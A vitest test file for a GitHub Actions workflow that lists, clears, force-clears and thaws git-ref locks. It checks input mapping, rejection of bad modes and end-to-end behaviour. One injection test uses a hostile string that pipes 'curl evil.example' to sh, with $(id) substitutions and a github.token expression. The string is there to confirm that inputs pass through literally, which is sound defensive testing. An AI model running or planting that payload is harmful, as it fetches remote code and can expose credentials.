/** The workflow clear-locks.yml: what it makes of its inputs, and what the shipped action makes of that. */
import { describe, expect } from "vitest";
import { bury } from "./gone.ts";
import { type SceneJob, test } from "./scene.ts";
import { readWorkflow } from "./workflow-step.ts";

const LOG = "refs/locks/publish/log/1";
const workflow = readWorkflow("clear-locks.yml");
const DEFAULTS = { name: "*", mode: "stale", expect: "", reason: "", "dry-run": false };

type Inputs = Partial<Record<keyof typeof DEFAULTS, string | boolean>>;

function runs(job: SceneJob, inputs: Inputs) {
  return job.runs(workflow.given({ ...DEFAULTS, ...inputs }));
}

describe("clear-locks.yml", () => {
  test("has the same inputs by hand and called", () => {
    const names = Object.keys(DEFAULTS);
    for (const trigger of ["workflow_dispatch", "workflow_call"] as const)
      expect(Object.keys(workflow.inputsOf(trigger))).toEqual(names);
    // By hand nothing is cleared by a careless click.
    expect(workflow.inputsOf("workflow_dispatch").mode).toBe("list");
  });

  test("gives each mode to the action as what it is", () => {
    const given = (mode: string) => workflow.given({ ...DEFAULTS, mode });
    expect(given("list")).toMatchObject({ operation: "status", force: "false", "dry-run": "false" });
    expect(given("stale")).toMatchObject({ operation: "clear", force: "false" });
    expect(given("force")).toMatchObject({ operation: "clear", force: "true" });
    expect(workflow.given({ ...DEFAULTS, "dry-run": true })).toMatchObject({ "dry-run": "true" });
  });

  test.for(["list", "stale", "force"])("goes on with the mode %s", (mode) => {
    expect(workflow.runs(0, { ...DEFAULTS, mode })).toBe(false);
  });

  test.for(["", "forced", "clear", "list,stale"])("stops at the mode %j", (mode) => {
    expect(workflow.runs(0, { ...DEFAULTS, mode })).toBe(true);
  });

  test("passes on what is written, and nothing of it becomes a part of a script", () => {
    const odd = `"; curl evil.example | sh #$(id)\`id\`\${{ github.token }}`;
    expect(workflow.given({ ...DEFAULTS, name: odd, reason: odd })).toMatchObject({ name: odd, reason: odd });
  });
});

describe.concurrent("the action, as the workflow uses it", () => {
  test("lists all, ends the dead, and by force what is expected", async ({ scene }) => {
    const [dead, live, other] = [await scene.job(), await scene.job(), await scene.job()];
    await dead.holds();
    bury(scene, dead);
    const { outputs } = await live.holds({ name: "deploy" });

    const list = await runs(other, { mode: "list" });
    expect(list, list.log).toMatchObject({ code: 0 });
    expect(list.log).toMatch(/"deploy" is held by .*alive/);
    expect(list.log).toMatch(/"publish" is held by .*dead/);

    const before = await scene.refs();
    const dry = await runs(other, { name: "publish", "dry-run": true });
    expect(dry, dry.log).toMatchObject({ code: 0, log: expect.stringContaining("would be cleared") });
    expect(await scene.refs()).toEqual(before);

    const stale = await runs(other, { name: "publish", reason: "its runner was gone" });
    expect(stale, stale.log).toMatchObject({ code: 0 });
    expect(await scene.history()).toMatchObject([
      { endedBy: { outcome: "cleared", reason: "its runner was gone" } },
    ]);

    const unnamed = await runs(other, { name: "deploy", mode: "force" });
    expect(unnamed, unnamed.log).toMatchObject({ code: 1, log: expect.stringMatching(/expect.*reason/) });
    const force = await runs(other, {
      name: "deploy",
      mode: "force",
      expect: outputs.claim ?? "",
      reason: "it hangs",
    });
    expect(force, force.log).toMatchObject({ code: 0, log: expect.stringContaining("cleared: it hangs") });
    expect(JSON.parse(force.outputs.holders ?? "").locks).toMatchObject([{ name: "deploy", holders: [] }]);
  });

  test("thaws a freeze by its oid, without force", async ({ scene }) => {
    const job = await scene.job();
    const { outputs } = await job.runs({ operation: "freeze", reason: "audit" });
    expect(await runs(job, { mode: "stale" })).toMatchObject({ code: 1 });
    expect((await scene.refs())[LOG]).toBe(outputs.claim);
    const thaw = await runs(job, { name: "publish", expect: outputs.claim ?? "", reason: "done" });
    expect(thaw, thaw.log).toMatchObject({ code: 0, log: expect.stringContaining("cleared") });
  });
});
